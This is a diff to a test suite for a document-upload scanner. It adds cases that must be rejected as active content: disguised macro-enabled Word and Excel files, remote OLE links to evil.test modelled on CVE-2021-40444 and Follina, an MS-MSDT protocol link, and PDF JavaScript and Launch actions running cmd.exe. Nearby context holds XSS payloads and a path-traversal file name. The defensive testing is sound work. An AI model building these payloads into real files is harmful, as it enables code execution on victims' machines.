@@ -27,16 +27,22 @@ from tests.documents.support import (
     FakeClamd,
     close_case,
     concatenated_zips,
+    content_types,
+    docx_bytes,
     duplicate_names_zip,
     encrypted_flag_zip,
     lying_headers_zip,
     lying_size_zip,
     nested_zip,
+    object_stream,
+    ole_bytes,
     ooxml_bytes,
     open_case,
     overlapping_entries_zip,
     patch_zip,
     pdf_bytes,
+    pdf_with,
+    relationships,
     unused_port_address,
     withdraw_case,
     zeros_zip,
@@ -88,6 +94,86 @@ MARKUP_BYPASSES = [
     ("csv-doubled-quotes", "table.csv", b'prompt,outcome\n1,"<img src=x alt="">"" onerror=alert(1)>"\n'),
     ("json-string", "data.json", b'{"note": "<svg onload=alert(1)>"}'),
     ("json-escaped", "data.json", b'["\\u003cimg src=x onerror=alert(1)\\u003e"]'),
+]
+
+MACROS = "contains macros"
+MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
+EXTERNAL = "links to external content that Office would load or run"
+# (id, file name, content, words of the message)
+OFFICE_ACTIVE_CONTENT = [
+    (
+        "docm-named-docx",
+        "report.docx",
+        docx_bytes(main_type=MACRO_MAIN, parts={"word/vbaProject.bin": ole_bytes("_VBA_PROJECT")}),
+        "The Word document contains macros ('word/vbaProject.bin')",
+    ),
+    ("macro-content-type-only", "report.docx", docx_bytes(main_type=MACRO_MAIN), MACROS),
+    (
+        "macro-relationship-only",
+        "report.docx",
+        docx_bytes(rels=relationships(("vbaProject", "vba.bin", ""))),
+        MACROS,
+    ),
+    (
+        "xlsm-macro-sheet-named-xlsx",
+        "numbers.xlsx",
+        zip_bytes(
+            {"[Content_Types].xml": content_types(), "xl/workbook.xml": b"<w/>", "xl/macrosheets/s1.xml": b"<m/>"}
+        ),
+        "The Excel workbook contains macros ('xl/macrosheets/s1.xml')",
+    ),
+    (
+        "remote-ole-object-mhtml",  # CVE-2021-40444
+        "report.docx",
+        docx_bytes(
+            rels=relationships(("oleObject", "mhtml:http://evil.test/x.html!x-usc:http://evil.test/x", "External"))
+        ),
+        EXTERNAL,
+    ),
+    (
+        "remote-ole-object-http",  # CVE-2022-30190 ("Follina")
+        "report.docx",
+        docx_bytes(rels=relationships(("oleObject", "http://evil.test/index.html!", "External"))),
+        EXTERNAL,
+    ),
+    (
+        "protocol-handler-link",
+        "report.docx",
+        docx_bytes(rels=relationships(("hyperlink", " MS-MSDT:/id PCWDiagnostic /skip force", "External"))),
+        EXTERNAL,
+    ),
+    (
+        "doctype-in-relationships",
+        "report.docx",
+        docx_bytes(rels=b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e "x">]><Relationships>&e;</Relationships>'),
+        "damaged or unusual package part",
+    ),
+    ("doc-with-vba", "old.doc", ole_bytes("Root Entry", "Macros", "VBA", "_VBA_PROJECT"), MACROS),
+    ("xls-with-vba-lower-case", "old.xls", ole_bytes("Root Entry", "_vba_project"), MACROS),
+]
+JAVASCRIPT = "The PDF contains JavaScript"
+# (id, content, words of the message)
+PDF_ACTIVE_CONTENT = [
+    ("javascript-open-action", pdf_with(b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>"), JAVASCRIPT),
+    ("javascript-escaped-name", pdf_with(b"<< /S /J#61va#53cript /JS (app.alert(1)) >>"), JAVASCRIPT),
+    ("javascript-no-space", pdf_with(b"<</S/JavaScript/JS(app.alert(1))>>"), JAVASCRIPT),
+    ("javascript-comment-between", pdf_with(b"<< /S %hidden\n/JavaScript /JS (app.alert(1)) >>"), JAVASCRIPT),
+    ("javascript-in-rendition", pdf_with(b"<< /S /Rendition /OP 0 /JS (app.alert(1)) >>"), JAVASCRIPT),
+    (
+        "javascript-in-object-stream",
+        pdf_with(object_stream(b"3 0 << /Type /Action /S /JavaScript /JS (app.alert(1)) >>")),
+        JAVASCRIPT,
+    ),
+    (
+        "object-stream-that-cannot-be-read",
+        pdf_with(object_stream(b"3 0 << /S /JavaScript >>", filters=b"/ASCIIHexDecode")),
+        "cannot be checked for scripts",
+    ),
+    (
+        "launch",
+        pdf_with(b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"),
+        "The PDF contains a Launch action",
+    ),
 ]
 
 # (id, file name, content, settings, words of the message, audit code, HTTP status)
@@ -394,6 +480,15 @@ CORPUS = [
     *[
         (f"markup-{case_id}", name, content, {}, "HTML, SVG or script markup", "markup", 400)
         for case_id, name, content in MARKUP_BYPASSES
+    ],
+    # Issue 9: active content in Office files, under the names of files without it.
+    *[
+        (f"office-{case_id}", name, content, {}, message, "active_content", 400)
+        for case_id, name, content, message in OFFICE_ACTIVE_CONTENT
+    ],
+    *[
+        (f"pdf-{case_id}", "report.pdf", content, {}, message, "active_content", 400)
+        for case_id, content, message in PDF_ACTIVE_CONTENT
     ],
     # Hostile names: what the cleaned name really is decides, and the stored name is never the user's.
     ("name-dotdot", "../../portal/settings.py", b"SECRET_KEY = 'x'\n", {}, "type .py are not accepted", "type", 400),
